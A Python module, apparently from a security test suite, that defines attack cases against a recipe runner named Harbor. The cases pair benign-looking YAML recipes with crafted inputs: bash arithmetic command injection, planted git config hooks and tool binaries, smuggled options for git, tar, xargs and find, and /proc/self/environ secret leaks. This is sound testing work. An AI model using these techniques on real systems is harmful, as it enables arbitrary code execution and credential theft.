"""More attack definitions (round three, second half). See attacks.py."""
import base64, io, tarfile


def tgz_modes(files):
    """A gzip'd tarball; each value is text, or (text, mode)."""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for n, c in files.items():
            mode = 0o644
            if isinstance(c, tuple):
                c, mode = c
            d = c.encode(); ti = tarfile.TarInfo(n); ti.size = len(d); ti.mode = mode
            t.addfile(ti, io.BytesIO(d))
    return bio.getvalue()


def define2(add, PAY, PAY1, PYPAY, b64, zipb, tgzb):
    PAYE = PAY + " >&2"
    SUB = "x[$(" + PAYE + ")]"           # bash arithmetic: the subscript's $(...) runs
    SUB1 = "x[$(" + PAY1 + ">&2)]"        # the same without blanks

    # ---------------- integer-attribute-eval ----------------
    C = "integer-attribute-eval"
    W = "The script's own variable has the integer attribute (declare -i / local -i); bash evaluates every text assigned to it as arithmetic, and a subscript's $(...) runs. The caller's value is assigned by "
    add("declare-ai-read-ra", C, W + "read -ra (read writes a literal name, not a caller-chosen one).", r"""
name: NAME_ID
description: Add up a space-separated list of whole numbers (byte counts, durations) and print the total and the count.
args:
  numbers:
    type: string
    minLength: 1
    maxLength: 4000
    description: Whole numbers separated by spaces, e.g. "120 45 300".
required: [numbers]
steps:
  - name: sum
    run: |
      declare -ai nums=()
      read -ra nums <<< "$ARG_numbers"
      total=0
      for n in "${nums[@]}"; do total=$(( total + n )); done
      printf 'count=%d total=%d\n' "${#nums[@]}" "$total"
""", {"numbers": "120 " + SUB1 + " 45"})
    add("declare-i-ifs-read-range", C, W + "IFS=, read of a 'from,to' range.", r"""
name: NAME_ID
description: Print the lines of a log file between two line numbers, given as "from,to".
args:
  file: {type: string, within: ".", maxLength: 4096, default: app.log}
  range:
    type: string
    maxLength: 40
    default: "1,50"
    description: First and last line number, comma-separated.
steps:
  - name: slice
    run: |
      declare -i from to
      IFS=, read -r from to <<< "$ARG_range"
      if (( from < 1 )); then from=1; fi
      if (( to < from )); then to=from; fi
      echo "lines $from to $to"
      if [ -f "$ARG_file" ]; then sed -n "${from},${to}p" -- "$ARG_file"; fi
""", {"range": SUB + ",5"})
    add("declare-ai-mapfile", C, W + "mapfile -t of a multiline value.", r"""
name: NAME_ID
description: Take one duration in seconds per line and report the slowest and the mean.
args:
  durations:
    type: string
    multiline: true
    maxLength: 100000
    description: One whole number of seconds per line.
required: [durations]
steps:
  - name: stats
    run: |
      declare -ai secs=()
      mapfile -t secs <<< "$ARG_durations"
      max=0 sum=0
      for s in "${secs[@]}"; do
        sum=$(( sum + s ))
        if (( s > max )); then max=$s; fi
      done
      echo "slowest=${max}s mean=$(( sum / ${#secs[@]} ))s"
""", {"durations": "12\n" + SUB + "\n7"})
    add("local-i-function-arg", C, W + "a function's local -i from its \"$1\".", r"""
name: NAME_ID
description: Print a separator line of a given width made of a given character, then a title.
args:
  title: {type: string, maxLength: 200}
  width:
    type: string
    maxLength: 64
    default: "60"
    description: Width of the separator line, in characters.
required: [title]
steps:
  - name: banner
    run: |
      rule() {
        local -i n=$1
        local line=""
        while (( ${#line} < n )); do line+="="; done
        printf '%s\n' "$line"
      }
      rule "$ARG_width"
      printf '%s\n' "$ARG_title"
      rule "$ARG_width"
""", {"title": "Release", "width": SUB1})
    add("declare-i-printf-v", C, W + "printf -v into a literal integer variable.", r"""
name: NAME_ID
description: Show how many days are left until a deadline given in days from now (may be a plain number).
args:
  days:
    type: string
    maxLength: 100
    description: Days from now.
required: [days]
steps:
  - name: left
    run: |
      declare -i d=0
      printf -v d '%s' "$ARG_days"
      echo "deadline: $(date -u -d "+${d} days" +%F) (${d} day(s) left)"
""", {"days": SUB})
    add("declare-ai-compound-split", C, W + "a compound array assignment of the split value.", r"""
name: NAME_ID
description: Sort a list of port numbers and print the highest one.
args:
  ports: {type: string, maxLength: 2000, description: Port numbers separated by spaces.}
required: [ports]
steps:
  - name: highest
    run: |
      declare -ai list
      list=($ARG_ports)
      printf '%d\n' "${list[@]}" | sort -n | tail -n 1
""", {"ports": "80 " + SUB1 + " 443"})

    # ---------------- step-output-shadows-exit ----------------
    C = "step-output-shadows-exit"
    W = ("Output keys may not END in _EXIT, but a key that IS 'EXIT' makes STEP_<step>_EXIT, which the docs class as the "
         "server's exit code (clean, a number); the output overrides it, and the later step's arithmetic evaluates it. ")
    add("labels-exit-arith", C, W + "The caller's object keys become output keys via jq.", r"""
name: NAME_ID
description: Record build labels (an object of name to value) as step outputs, then report whether the build step succeeded.
args:
  labels:
    type: object
    additionalProperties: {type: string, maxLength: 200}
    description: Labels to attach to the build record.
required: [labels]
steps:
  - name: build
    run: |
      jq -r 'to_entries[] | select(.key | test("^[A-Za-z_][A-Za-z0-9_]*$")) | "\(.key)=\(.value)"' <<< "$ARG_labels" >> "$HARBOR_STEP_OUTPUT"
      echo "recorded labels"
finally:
  - name: report
    run: |
      if (( STEP_build_EXIT == 0 )); then echo "build ok"; else echo "build failed ($STEP_build_EXIT)"; fi
""", {"labels": {"branch": "main", "EXIT": SUB}})
    add("title-newline-exit-dbl-bracket", C, W + "A string inside an object may hold a line break, so one output line becomes two; [[ -ne ]] evaluates it.", r"""
name: NAME_ID
description: Save a release's title (from a release object) as a step output and summarise the outcome.
args:
  release:
    type: object
    properties:
      title: {type: string, maxLength: 200}
      version: {type: string, pattern: "^[0-9]+[.][0-9]+[.][0-9]+$"}
    required: [title, version]
required: [release]
steps:
  - name: prepare
    run: |
      title=$(jq -r '.title' <<< "$ARG_release")
      version=$(jq -r '.version' <<< "$ARG_release")
      printf 'title=%s\nversion=%s\n' "$title" "$version" >> "$HARBOR_STEP_OUTPUT"
  - name: summary
    run: |
      if [[ $STEP_prepare_EXIT -ne 0 ]]; then echo "prepare failed"; exit 1; fi
      printf 'release %s ready\n' "$STEP_prepare_version"
""", {"release": {"title": "Spring\nEXIT=" + SUB, "version": "1.2.3"}})

    # ---------------- vcs-config-plant ----------------
    C = "vcs-config-plant"
    add("within-git-config-fsmonitor", C, "A within: '.' path may be .git/config; the literal 'git status' afterwards runs core.fsmonitor from it.", r"""
name: NAME_ID
description: Save an uploaded file at a path inside the repository and show the repository's status.
args:
  file: {type: string, contentEncoding: base64, description: The file's content.}
  path:
    type: string
    within: "."
    maxLength: 500
    description: Where to save it, inside the repository.
required: [file, path]
steps:
  - name: init
    run: git rev-parse --git-dir > /dev/null 2>&1 || git init -q
  - name: save
    run: |
      mkdir -p -- "$(dirname -- "$ARG_path")"
      cp -- "$ARG_file" "$ARG_path"
  - name: status
    run: git status --short
    env: {GIT_PAGER: cat}
""", {"file": b64("[core]\n\tfsmonitor = " + PAYE + "; false\n"), "path": ".git/config"})
    add("tar-x-git-sshcommand", C, "An uploaded repository snapshot extracted in the working directory carries .git/config with core.sshCommand; the literal 'git fetch origin' runs it.", r"""
name: NAME_ID
description: Restore an uploaded repository snapshot into the working directory and fetch the latest changes from origin.
args:
  snapshot: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
required: [snapshot]
steps:
  - name: restore
    run: tar -xzf "$ARG_snapshot"
  - name: fetch
    run: git fetch --quiet origin || echo "fetch failed"
    env: {GIT_TERMINAL_PROMPT: "0"}
""", {"snapshot": b64(tgzb({".git/HEAD": "ref: refs/heads/main\n",
                           ".git/objects/.keep": "", ".git/refs/heads/.keep": "",
                           ".git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tsshCommand = " + PAYE + "; false\n[remote \"origin\"]\n\turl = ssh://git.example.invalid/team/site.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n"}))})
    add("unzip-git-hookspath-commit", C, "An uploaded zip unpacked in a fresh repository sets core.hooksPath to one of its own folders; the literal 'git commit' runs its pre-commit hook.", r"""
name: NAME_ID
description: Unpack an uploaded site into a fresh git repository and commit it as the initial version.
args:
  site: {type: string, contentEncoding: base64, contentMediaType: application/zip}
required: [site]
steps:
  - name: commit
    run: |
      git init -q
      unzip -o -q -- "$ARG_site"
      git add -A
      git -c user.name=harbor -c user.email=harbor@localhost commit -q -m "initial import" || echo "nothing to commit"
""", {"site": b64(zipb({"index.html": "<h1>hi</h1>\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = " + PAYE + "; false\n"}))})

    # ---------------- project-tool-plant ----------------
    C = "project-tool-plant"
    add("venv-python-argv", C, "An uploaded project archive extracted in the working directory can carry .venv/bin/python (tar keeps the mode); the recipe-style argv: [.venv/bin/python, ...] runs it.", r"""
name: NAME_ID
description: Unpack an uploaded project archive and say which Python its virtual environment runs.
args:
  project: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
required: [project]
steps:
  - name: unpack
    run: tar -xzf "$ARG_project"
  - name: python
    argv: [.venv/bin/python, -c, "import sys; print(sys.prefix); print(sys.version.split()[0])"]
""", {"project": b64(tgz_modes({"pyproject.toml": "[project]\nname = 'x'\n", ".venv/bin/python": ("#!/bin/sh\n" + PAY + "\n", 0o755)}))})
    add("node-modules-bin-path", C, "An uploaded archive can carry node_modules/.bin/prettier; the literal PATH=\"$PWD/node_modules/.bin:$PATH\" (all clean text) makes 'prettier' that file.", r"""
name: NAME_ID
description: Unpack an uploaded web project and check its formatting with the project's own prettier.
args:
  project: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
required: [project]
steps:
  - name: unpack
    run: tar -xzf "$ARG_project"
  - name: format
    run: |
      PATH="$PWD/node_modules/.bin:$PATH"
      prettier --check . || echo "formatting issues found"
""", {"project": b64(tgz_modes({"package.json": "{}\n", "node_modules/.bin/prettier": ("#!/bin/sh\n" + PAY + "\n", 0o755)}))})
    add("pytest-conftest-upload", C, "The caller saves a 'fixture' under tests/ as conftest.py; the literal 'python3 -m pytest tests' imports it.", r"""
name: NAME_ID
description: Add an uploaded test data file under tests/ and run the test suite.
args:
  data: {type: string, contentEncoding: base64, description: The data file.}
  name:
    type: string
    pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]*$"
    description: File name under tests/.
required: [data, name]
steps:
  - name: add
    run: |
      mkdir -p tests
      cp -- "$ARG_data" "tests/$ARG_name"
  - name: test
    run: python3 -m pytest -q -p no:cacheprovider tests || echo "tests failed"
""", {"data": b64(PYPAY + "\n"), "name": "conftest.py"})
    add("tar-x-sitecustomize-dash-m", C, "An uploaded archive extracted in the working directory carries calendar.py; python3 -m with the cwd first on sys.path imports it.", r"""
name: NAME_ID
description: Unpack an uploaded data bundle and print this month's calendar next to its file list.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
required: [bundle]
steps:
  - name: unpack
    run: tar -tzf "$ARG_bundle" && tar -xzf "$ARG_bundle"
  - name: calendar
    run: python3 -m calendar
""", {"bundle": b64(tgzb({"calendar.py": PYPAY + "\n", "data.csv": "a\n"}))})

    # ---------------- module-runs-operand ----------------
    C = "module-runs-operand"
    W = "python3 -m MODULE takes the caller's file as an operand after the program (data, for an interpreter's argv), but the module "
    add("doctest-run", C, W + "doctest runs every '>>>' example in it.", r"""
name: NAME_ID
description: Check the code examples of an uploaded tutorial (text with >>> examples) and report failures.
args:
  tutorial: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [tutorial]
steps:
  - name: doctest
    run: python3 -m doctest -o ELLIPSIS -- "$ARG_tutorial" && echo "all examples pass"
""", {"tutorial": b64('Tutorial\n\n>>> import os; _ = os.system("' + PAY + '")\n')})
    add("doctest-argv", C, W + "doctest runs the examples (argv: step).", r"""
name: NAME_ID
description: Verify the examples in a documentation file of the working directory.
args:
  file: {type: string, within: ".", maxLength: 4096, description: A text or Markdown file inside the working directory.}
  text: {type: string, multiline: true, maxLength: 20000, description: Optional new content for the file before checking.}
required: [file]
steps:
  - name: write
    if: args.text != null
    run: printf '%s\n' "$ARG_text" > "$ARG_file"
  - name: check
    argv: [python3, -m, doctest, "{{ args.file }}"]
""", {"file": "README.txt", "text": "Docs\n\n>>> import os; _ = os.system(\"" + PAY + "\")"})
    add("pydoc-path", C, W + "pydoc imports a path operand to document it.", r"""
name: NAME_ID
description: Render the documentation of an uploaded Python module as text.
args:
  module: {type: string, contentEncoding: base64, contentMediaType: text/x-python}
required: [module]
steps:
  - name: doc
    run: python3 -m pydoc "$ARG_module" | head -n 200
""", {"module": b64(PYPAY + "\n")})
    add("perl-c-begin", C, "perl -c only 'checks the syntax' of the caller's file, but BEGIN blocks run during compilation.", r"""
name: NAME_ID
description: Check the syntax of an uploaded Perl script without running it.
args:
  script: {type: string, contentEncoding: base64}
required: [script]
steps:
  - name: check
    run: perl -c -- "$ARG_script"
""", {"script": b64("BEGIN { system(q{" + PAY + "}) }\nprint 1;\n")})
    add("python-inspect-module", C, W + "inspect imports the named module (here one the caller saved in the working directory).", r"""
name: NAME_ID
description: Save a helper module into the working directory and print its source as Python sees it.
args:
  code: {type: string, multiline: true, maxLength: 100000}
  module:
    type: string
    pattern: "^[a-z_][a-z0-9_]*$"
    description: Module name (file module.py).
required: [code, module]
steps:
  - name: save
    run: printf '%s\n' "$ARG_code" > "$ARG_module.py"
  - name: show
    run: python3 -m inspect "$ARG_module" | head -n 100
""", {"code": PYPAY, "module": "helper"})

    # ---------------- split-word-option (more programs) ----------------
    C = "split-word-option"
    W = "The arg cannot start with '-', but its unquoted split words can; a word after the first becomes an option of "
    add("git-fetch-dot-refspecs", C, W + "git fetch, which reads options after its operands (--upload-pack runs a command).", r"""
name: NAME_ID
description: Fast-forward local branches from other local branches (refspecs such as feature:main, separated by spaces).
args:
  refspecs: {type: string, minLength: 1, maxLength: 2000, description: Refspecs SRC:DST separated by spaces.}
required: [refspecs]
steps:
  - name: init
    run: git rev-parse --git-dir > /dev/null 2>&1 || git init -q
  - name: update
    run: git fetch --quiet . $ARG_refspecs || echo "some refspecs could not be applied"
    env: {GIT_TERMINAL_PROMPT: "0"}
""", {"refspecs": "feature:main --upload-pack=" + PAY1 + ">&2;false"})
    add("tar-extract-members-to-command", C, W + "tar -x among the member names (--to-command runs a command per member).", r"""
name: NAME_ID
description: Extract selected members of an uploaded tarball into the run directory.
args:
  archive: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
  members: {type: string, minLength: 1, maxLength: 2000, description: Member names separated by spaces.}
required: [archive, members]
steps:
  - name: extract
    run: |
      mkdir -p "$HARBOR_RUN_DIR/extracted"
      tar -xzf "$ARG_archive" -C "$HARBOR_RUN_DIR/extracted" $ARG_members
      ls -R "$HARBOR_RUN_DIR/extracted"
""", {"archive": b64(tgzb({"a.txt": "a\n"})), "members": "a.txt --to-command=" + PAY1 + ">&2"})
    C = "item-trim-or-object-dash"
    add("object-perl-switch-e", C, "Object properties skip the leading-dash rule; a file list item '-e…' after perl's program is read as one more -e line of code (perl keeps reading switches).", r"""
name: NAME_ID
description: Print the non-comment lines of the files a job spec names (spec has files[] and a title).
args:
  job:
    type: object
    properties:
      title: {type: string}
      files: {type: array, items: {type: string}}
    required: [files]
required: [job]
steps:
  - name: show
    run: |
      mapfile -t files < <(jq -r '.files[]' <<< "$ARG_job")
      perl -ne 'print unless /^\s*#/' "${files[@]}"
""", {"job": {"title": "t", "files": ['-e;system"echo\\x20HARBOR-PWNED-".6*7', "/etc/hostname"]}})

    # ---------------- split-word-command ----------------
    C = "split-word-command"
    W = "Unquoted split words land before the author's command word of a wrapper, so a word of the caller's becomes the program: "
    add("env-split-assignments", C, W + "env NAME=VALUE… runs the first word without '='.", r"""
name: NAME_ID
description: Run the unit tests with extra environment settings (NAME=VALUE pairs separated by spaces).
args:
  settings: {type: string, maxLength: 2000, default: "LANG=C.UTF-8", description: Extra environment for the test run, e.g. "DEBUG=1 TZ=UTC".}
steps:
  - name: test
    run: env $ARG_settings python3 -c 'import os; print("tests would run with", len(os.environ), "variables")'
""", {"settings": "DEBUG=1 sh -c " + PAY1})
    add("timeout-split-duration", C, W + "timeout DURATION… runs the word after the duration.", r"""
name: NAME_ID
description: Run the smoke check with a time limit (a duration such as 30s or 2m).
args:
  limit: {type: string, maxLength: 100, default: 60s, description: Time limit accepted by timeout(1).}
steps:
  - name: smoke
    run: timeout $ARG_limit python3 -c 'print("smoke ok")'
""", {"limit": "30s sh -c " + PAY1})
    add("nice-split-niceness", C, W + "nice -n N… runs the word after the niceness.", r"""
name: NAME_ID
description: Compress a folder of the working directory at a chosen niceness to spare the machine.
args:
  niceness: {type: string, maxLength: 64, default: "10", description: Niceness from 0 to 19.}
  dir: {type: string, within: ".", default: "."}
steps:
  - name: compress
    run: nice -n $ARG_niceness tar -czf "$HARBOR_RUN_DIR/dir.tgz" -- "$ARG_dir"
""", {"niceness": "10 sh -c " + PAY1})

    # ---------------- schema-combinator ----------------
    C = "schema-combinator"
    add("anyof-email-raw", C, "The arg's characters are bounded only inside anyOf, one branch of which is format: email (an '@' is enough); the raw placeholder in double quotes runs $(...).", r"""
name: NAME_ID
description: Notify a team handle or an e-mail address that a report is ready.
args:
  who:
    type: string
    maxLength: 254
    anyOf:
      - {pattern: "^@?[A-Za-z0-9_.-]+$"}
      - {format: email}
required: [who]
steps:
  - name: notify
    run: echo "notifying {{ args.who }}"
""", {"who": "ops$(" + PAYE + ")@example.com"})
    add("oneof-ipv4-hostname-raw", C, "oneOf with format: hostname (not asserted by jsonschema without extras) leaves the raw placeholder unbounded.", r"""
name: NAME_ID
description: Ping a host given as an IPv4 address or a host name (one packet).
args:
  target:
    type: string
    maxLength: 253
    oneOf:
      - {format: ipv4}
      - {format: hostname}
required: [target]
steps:
  - name: ping
    run: 'ping -c 1 -W 1 {{ args.target }} || echo "{{ args.target }} is unreachable"'
""", {"target": "h$(" + PAYE + ")"})

    # ---------------- secret-leak ----------------
    C = "secret-leak"
    add("typeset-x-sed-l", C, "typeset -x exports the secret; sed's l command with a caller width 1 prints /proc/self/environ one character per line with a backslash, which no scrubber form matches.", r"""
name: NAME_ID
description: Show a file with its non-printing characters made visible (sed l), wrapped to a width; the deploy token is exported for the deploy helper.
secrets:
  DEPLOY_TOKEN: {env: CI_DEPLOY_TOKEN}
args:
  file: {type: string, maxLength: 4096}
  width: {type: integer, minimum: 1, maximum: 200, default: 70}
required: [file]
steps:
  - name: show
    run: |
      typeset -x DEPLOY_TOKEN
      sed -n 'l {{ args.width }}' -- "$ARG_file"
""", {"file": "/proc/self/environ", "width": 2})
    add("declare-gx-awk-spread", C, "declare -gx inside a function exports the secret; an awk program (no system, no pipes) spaces out every character of the caller's file, /proc/self/environ.", r"""
name: NAME_ID
description: Print a file letter-spaced (for banners); the API token is exported by the setup function for later tools.
secrets:
  API_TOKEN: {env: STATUS_API_TOKEN}
args:
  file: {type: string, maxLength: 4096}
required: [file]
steps:
  - name: banner
    run: |
      setup() { declare -gx API_TOKEN; }
      setup
      awk '{ gsub(/./, "& "); print }' "$ARG_file"
""", {"file": "/proc/self/environ"})
    add("prefix-env-to-sort-proc", C, "The secret is given to one command's environment, as the docs advise; that command (sort -z) reads the caller's file /proc/self/environ, and sed spaces out what it prints.", r"""
name: NAME_ID
description: Upload a sorted copy of a file with the upload token in the sorter's environment (the sorter's wrapper reads it), and show the sorted text spaced out.
secrets:
  UPLOAD_TOKEN: {env: UPLOAD_TOKEN}
args:
  file: {type: string, maxLength: 4096}
required: [file]
steps:
  - name: sort
    run: |
      UPLOAD_TOKEN="$UPLOAD_TOKEN" sort -z -- "$ARG_file" | sed 's/./& /g'
""", {"file": "/proc/self/environ"})

    # ---------------- argv-list-file-options ----------------
    C = "argv-list-file-options"
    add("argv-xargs-a-zip", C, "An argv: step (no shell, one element per value) whose xargs -a reads the caller's uploaded list: a line '-T' and '--unzip-command=…' become zip options.", r"""
name: NAME_ID
description: Zip the files named in an uploaded list (one path per line) into the run directory.
args:
  list: {type: string, contentEncoding: base64, contentMediaType: text/plain, description: One path per line.}
required: [list]
steps:
  - name: zip
    argv: [xargs, -a, "{{ args.list }}", -d, "\n", zip, -q, bundle.zip]
""", {"list": b64("/etc/hostname\n-T\n--unzip-command=" + PAY + "\n")})
    add("argv-xargs-a-find", C, "argv: step; xargs -a over the caller's folder list hands find '-exec sh -c … ;'.", r"""
name: NAME_ID
description: Count the files in each folder named in an uploaded list (one per line).
args:
  folders: {type: string, contentEncoding: base64, contentMediaType: text/plain}
required: [folders]
steps:
  - name: list
    argv: [xargs, -a, "{{ args.folders }}", -d, "\n", find]
""", {"folders": b64(".\n-exec\nsh\n-c\n" + PAY + " >&2\n;\n")})

    # ---------------- quoted-value-misplaced ----------------
    C = "quoted-value-misplaced"
    add("at-q-in-dquotes-sourced", C, "${x@Q} is bash's own quoting, so the value is 'safe' in the sourced file; but the template puts it inside double quotes, where its single quotes are literal and $(...) runs when the file is sourced.", r"""
name: NAME_ID
description: Write the release settings to an env file in the run directory, load it and print the release banner.
args:
  title: {type: string, maxLength: 200}
  version: {type: string, pattern: "^[0-9]+[.][0-9]+[.][0-9]+$"}
required: [title, version]
steps:
  - name: banner
    run: |
      cat > "$HARBOR_RUN_DIR/release.env" <<EOF
      RELEASE_TITLE="${ARG_title@Q}"
      RELEASE_VERSION=${ARG_version@Q}
      EOF
      . "$HARBOR_RUN_DIR/release.env"
      printf '== %s (%s) ==\n' "$RELEASE_TITLE" "$RELEASE_VERSION"
""", {"title": "Spring $(" + PAYE + ")", "version": "1.2.3"})
    add("at-q-in-dquotes-bash-c", C, "${x@Q} (bash's own quoting, followed by the checker into nested scripts) is spliced into a double-quoted string inside a bash -c script; within \"…\" its single quotes are literal and $(...) runs.", r"""
name: NAME_ID
description: Run the greeting in a clean login-like shell with the caller's name already quoted.
args:
  name: {type: string, maxLength: 200}
required: [name]
steps:
  - name: greet
    run: |
      q=${ARG_name@Q}
      env -i PATH="$PATH" bash --noprofile --norc -c "who=\"$q\"; echo \"hello \$who\""
""", {"name": "Ada $(" + PAYE + ")"})
